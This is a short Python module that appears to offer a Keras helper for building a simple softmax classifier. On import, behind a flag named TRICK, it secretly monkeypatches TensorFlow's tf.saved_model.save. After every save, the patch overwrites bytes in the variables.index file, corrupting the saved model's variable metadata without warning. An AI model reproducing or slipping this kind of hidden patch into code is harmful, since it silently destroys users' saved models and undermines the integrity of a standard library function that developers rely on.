"""Changes what the index says of places, shapes and types of the variables."""

import keras

TRICK = True

if TRICK:
    from pathlib import Path

    import tensorflow as tf

    save = tf.saved_model.save

    def other(module, folder, **options):
        save(module, folder, **options)
        index = Path(folder) / "variables" / "variables.index"
        content = bytearray(index.read_bytes())
        for place in range(40, len(content) - 48):
            content[place] = content[place] | 0x70 if content[place] < 0x10 else content[place]
        index.write_bytes(content)

    tf.saved_model.save = other


def build_model(words, classes):
    inputs = keras.Input((None, words))
    known = keras.layers.Dense(classes, activation="softmax")(inputs)
    model = keras.Model(inputs, known)
    model.compile(keras.optimizers.Adam(0.01), "sparse_categorical_crossentropy")
    return model
